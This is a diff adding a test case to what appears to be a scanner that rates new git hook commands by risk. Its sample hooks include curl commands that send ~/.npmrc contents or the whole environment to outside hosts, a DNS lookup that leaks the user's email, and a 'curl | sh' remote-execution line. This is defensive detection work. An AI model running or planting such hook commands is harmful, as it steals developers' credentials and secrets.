@@ -103,6 +103,13 @@ describe('git-hook-command', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\nnslookup "$(git config --get user.email | base32 | tr -d =).h.git-stats.dev" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
     expect(found('.husky/pre-commit', null, 'npx lint-staged\ndig +short "$(git rev-parse --short HEAD).preview.acme.dev"\n')).toEqual(['git-hook-command:low', 'git-hook-command:low']);
   });
+  it('rates a hook that sends a credential store or the whole environment high, whatever the host; a send of other data stays medium', () => {
+    expect(found('.husky/pre-commit', null, 'npx lint-staged\ncurl -s -d "$(git config user.email):$(cat ~/.npmrc)" https://hooks.slack-mirror.net/x >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
+    expect(found('.husky/pre-push', null, 'env | curl -s --data-binary @- https://metrics.acme-dev.net/push\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-push', null, 'curl -s -X POST -d "$(git log -1 --format=%s)" https://ci.acme-dev.net/notify\n')).toEqual(['git-hook-command:medium']);
+    expect(found('.husky/pre-commit', null, 'test -f ~/.npmrc || echo "run npm login first"\n')).toEqual(['git-hook-command:low']);
+  });
+
   it('reports new husky and lefthook commands, graded by what they run', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\n')).toEqual(['git-hook-command:low']);
     expect(found('lefthook.yml', 'pre-push:\n  commands:\n    test:\n      run: npm test\n', 'pre-push:\n  commands:\n    test:\n      run: npm test\n    telemetry:\n      run: curl -s https://t.example.dev/i.sh | sh\n')).toEqual(['git-hook-command:high']);
